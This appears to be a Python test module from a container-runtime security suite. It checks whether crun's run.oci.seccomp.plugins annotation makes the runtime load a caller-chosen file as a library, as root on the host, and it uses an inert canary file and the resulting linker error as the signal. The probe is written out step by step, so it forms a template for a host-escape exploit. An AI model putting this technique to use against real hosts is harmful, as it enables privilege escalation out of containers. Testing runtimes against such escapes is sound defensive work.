"""run.oci.seccomp.plugins has crun load a library of the caller's choice, as root on the host."""

from bypass import Failed, inert, profile

SOURCE = "idea: crun(1)"
WAY = "create"
STOPPED = inert("the annotation is removed")
BARE = {"runc": "runc reads no run.oci annotation"}


def attack(t):
    t.write("/mnt/host/library.so", t.canary)
    t.spec["linux"]["seccomp"] = profile.all_but(profile.rule("swapon", "ERRNO"))
    t.annotation("run.oci.seccomp.plugins", "/mnt/host/library.so")
    try:
        t.lay("sleep 0.3")  # when the container has ended already, nothing is loaded
        t.call("run", "--bundle", t.bundle, t.id, out=t.out)
        t.text_out()
    except Failed as failure:
        # the linker has read it, and finds that it is no library
        return "loaded" if "/mnt/host/library.so: file too short" in str(failure) else str(failure)
    return ""
